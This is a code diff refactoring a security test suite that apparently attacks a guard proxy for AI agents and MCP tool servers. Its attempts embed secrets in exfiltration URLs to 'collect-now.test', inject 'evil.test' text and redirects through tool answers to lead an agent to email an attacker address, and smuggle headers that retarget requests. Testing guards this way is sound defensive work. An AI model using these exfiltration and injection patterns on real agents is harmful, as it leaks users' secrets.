@@ -11,6 +11,7 @@ import base64
 import itertools
 import json
 import re
+from contextlib import suppress
 from dataclasses import replace
 from typing import TYPE_CHECKING, Any, ClassVar, Final
 from urllib.parse import quote
@@ -32,17 +33,26 @@ from guard.protocols.llm.model_requests import ModelApi
 from guard.protocols.mcp import declarations, grammar, mcp
 from guard.protocols.mcp.mcp import McpProtocol
 from guard.provenance import tracing
-from lab.trust.attacks import AttackClass, Attempt, Patch, Switch
-from lab.trust.harness import MCP_PATH, Answer
+from lab.trust.attacks import (
+    KIND,
+    AttackClass,
+    Attempt,
+    Patch,
+    Play,
+    Step,
+    Switch,
+    acting,
+    in_turns,
+)
+from lab.trust.harness import TOOLS, Answer, World
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
     from random import Random
 
+    from guard.core.model import Json
     from guard.protocols.http.message import HttpRequest
     from guard.protocols.messages import Message
-    from lab.trust.attacks import Play
-    from lab.trust.harness import World
 
 LETTERS: Final = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
 CODINGS: Final[dict[str, Callable[[str], str]]] = {
@@ -308,8 +318,17 @@ class UnjudgedBytes(AttackClass):
             "a result answers an open request",
             lambda patch: patch.set(McpProtocol, "answers_by_id", value=False),
         ),
-        Switch("what is released is labelled", lambda patch: _unlabelled(patch)),
-        Switch("what a provider fetches is a call", lambda p: _unfetched(p), among="fetched:"),
+        Switch(
+            "what is released is labelled",
+            lambda patch: patch.set(declarations, "_other_texts", lambda _: ()).set(
+                ResponseHandler, "_is_awaited", lambda *_: False
+            ),
+        ),
+        Switch(
+            "what a provider fetches is a call",
+            lambda p: p.set(apis, "fetched", lambda *_: []),
+            among="fetched:",
+        ),
         Switch(
             "a member that a model API does not have is a call",
             lambda p: p.set(ModelApi, "others", lambda _self, _body: []),
@@ -339,24 +358,7 @@ class UnjudgedBytes(AttackClass):
     def attempts(self, rng: Random) -> Iterator[Attempt]:
         """Yield the ways out, by other paths, and in, in turns."""
         secrets = _made(rng)
-        outwards = [
-            Attempt(f"{carrier}: {kind}, {coding}", _message_play(make, code(secret)))
-            for (carrier, make), (kind, secret), (coding, code) in itertools.product(
-                MESSAGES.items(), secrets.items(), CODINGS.items()
-            )
-        ]
-        paths = _paths(secrets)
-        texts = [word.format(who) for word, who in itertools.product(WORDS, DROP)]
-        wrong = [
-            Attempt(f"{asked} {how}: {text}", _wrong_play(ASKED[asked], make, text))
-            for asked, (how, make), text in itertools.product(ASKED, WRONG.items(), texts)
-        ]
-        beside = [
-            Attempt(f"{asked} {how}, {form}: {text}", _beside_play(ASKED[asked], make, form, text))
-            for asked, (how, make), form, text in itertools.product(
-                ASKED, BESIDE.items(), ("json", "error", "event"), texts
-            )
-        ]
+        texts = [(word.format(who), who) for word, who in itertools.product(WORDS, DROP)]
         shown = [
             Attempt(f"fetched: {path} {number}: {kind}", _fetched_play(path, make, secret))
             for (path, makers), (kind, secret) in itertools.product(
@@ -364,23 +366,16 @@ class UnjudgedBytes(AttackClass):
             )
             for number, make in enumerate(makers)
         ]
-        for (path, (make, *_)), (how, spell) in itertools.product(
-            CONVERSATIONS.items(), SPELT.items()
-        ):
-            play = _fetched_play(path, make, secrets["key"], spell)
-            shown.append(Attempt(f"fetched: {path} {how}", play))
+        shown += [
+            Attempt(f"fetched: {path} {how}", _fetched_play(path, make, secrets["key"], spell))
+            for (path, (make, *_)), (how, spell) in itertools.product(
+                CONVERSATIONS.items(), SPELT.items()
+            )
+        ]
         options = [
             Attempt(f"option: {path} {name} {how}", _option_play(path, name, value))
             for path, (how, value) in itertools.product(CONVERSATIONS, OPTIONS.items())
             for name in ("_".join(rng.sample(OPTION_WORDS, 2)) for _ in range(2))
-        ]
-        led = [
-            Attempt(f"led: {asked} {name}: {who}", _led_play(ASKED[asked], name, who))
-            for asked, name, who in itertools.product(ASKED, LEADING, DROP)
-        ]
-        within = [
-            Attempt(f"in an event: {asked} {line}: {who}", _line_play(ASKED[asked], line, who))
-            for asked, line, who in itertools.product(ASKED, LINES, DROP)
         ]
         named = [
             Attempt(f"program: {carrier}: {name}", _message_play(MESSAGES[carrier], name))
@@ -394,39 +389,66 @@ class UnjudgedBytes(AttackClass):
             )
             if kind != "mailbox" or coding == "plain"
         ]
-        unasked = list(_unasked(rng))
-        kinds = (
-            outwards,
-            paths,
-            wrong,
-            beside,
-            shown,
-            options,
-            led,
-            within,
-            named,
-            answered,
-            unasked,
+        inwards = _inwards(rng, texts)
+        outwards = (*_outwards(secrets), shown, options, named, answered, list(_unasked(rng)))
+        yield from in_turns(rng, *outwards, *inwards)
+
+
+def _inwards(rng: Random, texts: list[tuple[str, str]]) -> tuple[list[Attempt], ...]:
+    """Return attempts by which a text comes in, by their kind."""
+    wrong = [
+        Attempt(
+            f"{asked} {how}: {text}",
+            _answered_play(ASKED[asked], _upstream(make, "json", text), text="evil.test"),
         )
-        for kind in kinds:
-            rng.shuffle(kind)
-        wrong[120:], beside[240:] = [], []
-        for group in itertools.zip_longest(*kinds):
-            yield from (attempt for attempt in group if attempt is not None)
+        for asked, (how, make), (text, _) in itertools.product(ASKED, WRONG.items(), texts)
+    ]
+    beside = [
+        Attempt(
+            f"{asked} {how}, {form}: {text}",
+            _answered_play(ASKED[asked], _upstream(make, form, text), who, "evil.test"),
+        )
+        for asked, (how, make), form, (text, who) in itertools.product(
+            ASKED, BESIDE.items(), ("json", "error", "event"), texts
+        )
+    ]
+    led = [
+        Attempt(
+            f"led: {asked} {name}: {who}",
+            _answered_play(ASKED[asked], _fixed(b"", 302, headers=((name, value),)), who),
+        )
+        for asked, name, who in itertools.product(ASKED, LEADING, DROP)
+        for value in ("0; url=https://next.test" * (name == "refresh") + f"/next?to={who}",)
+    ]
+    within = [
+        Attempt(
+            f"in an event: {asked} {line}: {who}",
+            _answered_play(
+                ASKED[asked],
+                _fixed(f"{line.format(who)}\n\n".encode(), content_type="text/event-stream"),
+                who,
+            ),
+        )
+        for asked, line, who in itertools.product(ASKED, LINES, DROP)
+    ]
+    return rng.sample(wrong, 120), rng.sample(beside, 240), led, within
 
 
-def _paths(secrets: dict[str, str]) -> list[Attempt]:
-    """Return attempts that name a secret in another path of a listener."""
-    return [
+def _outwards(secrets: dict[str, str]) -> tuple[list[Attempt], list[Attempt]]:
+    """Return attempts that name a secret in a message, and in another path of a listener."""
+    messages = [
+        Attempt(f"{carrier}: {kind}, {coding}", _message_play(make, code(secret)))
+        for (carrier, make), (kind, secret), (coding, code) in itertools.product(
+            MESSAGES.items(), secrets.items(), CODINGS.items()
+        )
+    ]
+    paths = [
         Attempt(f"{method} {target}: {kind}", _path_play(method, target, secret))
         for method, target, (kind, secret) in itertools.product(
             METHODS, TARGETS, {**secrets, "customer": "42"}.items()
         )
     ]
-
-
-def _unfetched(patch: Patch) -> None:
-    patch.set(apis, "fetched", lambda *_: [])
+    return messages, paths
 
 
 def _all_asked(patch: Patch) -> None:
@@ -441,51 +463,35 @@ def _all_asked(patch: Patch) -> None:
     patch.set(McpProtocol, "parse", parse)
 
 
-def _unlabelled(patch: Patch) -> None:
-    patch.set(declarations, "_other_texts", lambda _: ())
-    patch.set(ResponseHandler, "_is_awaited", lambda *_: False)
-
-
 def _message_play(make: Callable[[str], dict[str, Any]], secret: str) -> Play:
-    async def play(world: World) -> bool:
-        agent = world.agent()
-        body = json.dumps(make(secret)).encode()
-        headers = {"content-type": "application/json"}
-        outcome = await agent.raw(agent.request("POST", MCP_PATH, body, headers))
-        return outcome.forwarded
-
-    return play
+    return acting(Step(document=make(secret)))
 
 
 def _answer_play(make: Callable[[str], dict[str, Any]], text: str) -> Play:
     """Answer what a server asked with what memory said, or a secret."""
-
-    async def play(world: World) -> bool:
-        agent = world.agent()
-        await agent.call("memory_recall_fact", {"key": "pay"}, MEMORY)
-        world.serve(agent.listener, _asking)
-        await agent.call("search_emails", {"query": "x"})
-        document = {"jsonrpc": "2.0", "id": 3, **make(f"As asked: {text}")}
-        headers = {"content-type": "application/json"}
-        body = json.dumps(document).encode()
-        return (await agent.raw(agent.request("POST", MCP_PATH, body, headers))).forwarded
-
-    return play
+    return acting(
+        Step("memory_recall_fact", {"key": "pay"}, MEMORY),
+        Step("search_emails", {"query": "x"}, serve=(TOOLS, _asking)),
+        Step(document={"jsonrpc": "2.0", "id": 3, **make(f"As asked: {text}")}),
+    )
 
 
 QUESTIONS: Final = ("elicitation/create", "sampling/createMessage", "roots/list")
 """Questions of servers to their clients."""
 
 
+def _events(*messages: Json) -> Answer:
+    events = "".join(f"event: message\ndata: {json.dumps(one)}\n\n" for one in messages)
+    return Answer(events.encode(), content_type="text/event-stream")
+
+
 def _asking(request: HttpRequest) -> Answer:
     """Ask for everything under one id, and under one name in the result."""
     message = json.loads(request.body or b"{}")
     wanted = {"a": {"method": QUESTIONS[0], "params": {"message": "Who?"}}}
-    result = {"resultType": "input_required", "inputRequests": wanted}
-    outwards = [{**_event(method, message="Who?"), "id": 3} for method in QUESTIONS]
-    outwards.append({"jsonrpc": "2.0", "id": message.get("id", 1), "result": result})
-    events = "".join(f"event: message\ndata: {json.dumps(one)}\n\n" for one in outwards)
-    return Answer(events.encode(), content_type="text/event-stream")
+    result: Json = {"resultType": "input_required", "inputRequests": wanted}
+    outwards: list[Json] = [{**_event(method, message="Who?"), "id": 3} for method in QUESTIONS]
+    return _events(*outwards, {"jsonrpc": "2.0", "id": message.get("id", 1), "result": result})
 
 
 def _unasked_play(
@@ -498,20 +504,12 @@ def _unasked_play(
         done = _result(message.get("id", 1), "done")
         if asked is None:
             return Answer(json.dumps(done).encode())
-        outwards = ({**_event(asked[0], message="Who?"), "id": asked[1]}, done)
-        events = "".join(f"event: message\ndata: {json.dumps(one)}\n\n" for one in outwards)
-        return Answer(events.encode(), content_type="text/event-stream")
+        return _events({**_event(asked[0], message="Who?"), "id": asked[1]}, done)
 
-    async def play(world: World) -> bool:
-        agent, other = world.agent(), world.agent(who)
-        world.serve(agent.listener, upstream)
-        await other.call("search_emails", {"query": "x"})
-        document = {"jsonrpc": "2.0", "id": 3, **make(text)}
-        headers = {"content-type": "application/json"}
-        body = json.dumps(document).encode()
-        return (await agent.raw(agent.request("POST", MCP_PATH, body, headers))).forwarded
-
-    return play
+    return acting(
+        Step("search_emails", {"query": "x"}, who=(who,), serve=(TOOLS, upstream)),
+        Step(who=("alice",), document={"jsonrpc": "2.0", "id": 3, **make(text)}),
+    )
 
 
 def _unasked(rng: Random) -> Iterator[Attempt]:
@@ -542,38 +540,24 @@ def _fetched_play(
     secret: str,
     spell: Callable[[str], str] = SPELT["as it is"],
 ) -> Play:
-    return _posted(path, make(spell(f"https://collect-now.test/p.png?d={quote(secret, safe='')}")))
+    url = spell(f"https://collect-now.test/p.png?d={quote(secret, safe='')}")
+    return acting(Step(document=make(url), url=f"https://{path}"))
 
 
 def _option_play(path: str, name: str, value: Callable[[str], Any]) -> Play:
     """Ask a provider for more than its API has."""
     turns = "contents" if "generateContent" in path else "messages"
-    return _posted(path, {turns: [], name: value("https://collect-now.test/index")})
-
-
-def _posted(path: str, document: dict[str, Any]) -> Play:
-    async def play(world: World) -> bool:
-        agent = world.agent()
-        body = json.dumps(document).encode()
-        headers = {"content-type": "application/json"}
-        return (await agent.http("POST", f"https://{path}", body, headers)).forwarded
-
-    return play
+    option: Json = value("https://collect-now.test/index")
+    return acting(Step(document={turns: [], name: option}, url=f"https://{path}"))
 
 
 def _path_play(method: str, target: str, secret: str) -> Play:
     async def play(world: World) -> bool:
         agent = world.agent()
         path = target.format(quote(secret, safe=""))
-        headers = {"mcp-session-id": "x"}
-        body = b""
-        if method == "POST":
-            body, headers["content-type"] = (
-                json.dumps(_rpc("ping", {})).encode(),
-                "application/json",
-            )
-        outcome = await agent.raw(agent.request(method, path, body, headers))
-        return outcome.forwarded
+        body = json.dumps(_rpc("ping", {})).encode() if method == "POST" else b""
+        headers = {"mcp-session-id": "x", **(KIND if body else {})}
+        return (await agent.raw(agent.request(method, path, body, headers))).forwarded
 
     return play
 
@@ -592,56 +576,35 @@ def _upstream(make: Callable[[int, str], Any], form: str, text: str) -> Callable
     return answer
 
 
-def _wrong_play(
-    asked: tuple[str, dict[str, Any]], make: Callable[[int, str], Any], text: str
+def _answered_play(
+    asked: tuple[str, dict[str, Any]],
+    upstream: Callable[..., Answer],
+    who: str = "",
+    text: str = "",
 ) -> Play:
+    """Play that a text of an answer reaches the agent, and that its address is not remembered.
+
+    Args:
+        asked: the message that is answered.
+        upstream: answers it.
+        who: the address, which is then written to; empty where the text must not arrive at all.
+        text: part of the answer that the agent must have got; empty where any will do.
+    """
+
     async def play(world: World) -> bool:
         agent = world.agent()
-        world.serve(agent.listener, _upstream(make, "json", text))
+        world.serve(agent.listener, upstream)
         outcome = await agent.message(*asked)
-        return outcome.forwarded and b"evil.test" in outcome.reply
-
-    return play
-
-
-def _answered_play(asked: tuple[str, dict[str, Any]], answer: Answer, who: str) -> Play:
-    async def play(world: World) -> bool:
-        agent = world.agent()
-        world.serve(agent.listener, lambda _request: answer)
-        await agent.message(*asked)
-        send = {"to": who, "subject": "s", "body": "b"}
-        sent = await agent.call("email_send_email", send)
+        if text.encode() not in outcome.reply or not who:
+            return outcome.forwarded and text.encode() in outcome.reply
+        sent = await agent.call("email_send_email", {"to": who, "subject": "s", "body": "b"})
         return "provenance_tainted" not in sent.codes
 
     return play
 
 
-def _led_play(asked: tuple[str, dict[str, Any]], name: str, who: str) -> Play:
-    value = f"0; url=https://next.test/?to={who}" if name == "refresh" else f"/next?to={who}"
-    return _answered_play(asked, Answer(b"", 302, headers=((name, value),)), who)
-
-
-def _line_play(asked: tuple[str, dict[str, Any]], line: str, who: str) -> Play:
-    body = f"{line.format(who)}\n\n".encode()
-    return _answered_play(asked, Answer(body, content_type="text/event-stream"), who)
-
-
-def _beside_play(
-    asked: tuple[str, dict[str, Any]], make: Callable[[int, str], Any], form: str, text: str
-) -> Play:
-    who = next(found for found in DROP if found in text)
-
-    async def play(world: World) -> bool:
-        agent = world.agent()
-        world.serve(agent.listener, _upstream(make, form, text))
-        outcome = await agent.message(*asked)
-        if b"evil.test" not in outcome.reply:
-            return False
-        send = {"to": who, "subject": "s", "body": "b"}
-        sent = await agent.call("email_send_email", send)
-        return "provenance_tainted" not in sent.codes
-
-    return play
+def _fixed(*given: Any, **more: Any) -> Callable[..., Answer]:
+    return lambda _request: Answer(*given, **more)
 
 
 # --- header controls ---
@@ -747,7 +710,15 @@ class HeaderControls(AttackClass):
             for name in _spellings(header)
         ]
         targets = [
-            Attempt(f"target: {name}", _target_play(name))
+            Attempt(
+                f"target: {name}",
+                acting(
+                    Step(
+                        "ping",
+                        headers={name: "DELETE" if "ethod" in header else "/v1/customers/42"},
+                    )
+                ),
+            )
             for header in TARGET_HEADERS
             for name in _spellings(header)
         ]
@@ -760,10 +731,7 @@ class HeaderControls(AttackClass):
             for name in BESIDE_HEADERS
             for (coding, coded), around in itertools.product(CODED.items(), AROUND)
         ]
-        for kind in (ends, fronts, targets, beside):
-            rng.shuffle(kind)
-        for group in itertools.zip_longest(ends, fronts, targets, beside):
-            yield from (attempt for attempt in group if attempt is not None)
+        yield from in_turns(rng, ends, fronts, targets, beside)
 
 
 def _spellings(name: str) -> dict[str, None]:
@@ -797,28 +765,19 @@ def _beside_header(name: str, said: str) -> Play:
         flow.request.headers = Headers(
             ((header, said.encode()), *(() if name == "host" else ((b"host", b"tools.internal"),)))
         )
-        try:
+        with suppress(MessageError):
             judged = notable_headers(translation.read_request(flow, LIMIT))
-        except MessageError:
-            return False
-        translation.prepare_request(flow)
-        leaves = upstream_requests.goes_on(header, trusts_forwarded=False) or any(
-            value == said.encode() for _, value in flow.request.headers.fields
-        )
-        return leaves and said not in judged.values()
+            return _leaves(flow, header, said) and said not in judged.values()
+        return False
 
     return play
 
 
-def _target_play(name: str) -> Play:
-    """Play that a header above a harmless message gives it the target of another request."""
-
-    async def play(world: World) -> bool:
-        said = "DELETE" if "ethod" in name.lower() else "/v1/customers/42"
-        outcome = await world.agent().message("ping", {}, headers={name: said})
-        return outcome.forwarded
-
-    return play
+def _leaves(flow: HTTPFlow, header: bytes, said: str) -> bool:
+    translation.prepare_request(flow)
+    return upstream_requests.goes_on(header, trusts_forwarded=False) or any(
+        value == said.encode() for _, value in flow.request.headers.fields
+    )
 
 
 def _flow(place: str, put: bytes, header: bytes) -> HTTPFlow:
@@ -851,10 +810,8 @@ def _flow(place: str, put: bytes, header: bytes) -> HTTPFlow:
 def _play(flow: HTTPFlow) -> Play:
     async def play(world: World) -> bool:
         del world
-        try:
-            translation.read_request(flow, LIMIT)
-        except MessageError:
-            return False
-        return True
+        with suppress(MessageError):
+            return bool(translation.read_request(flow, LIMIT))
+        return False
 
     return play
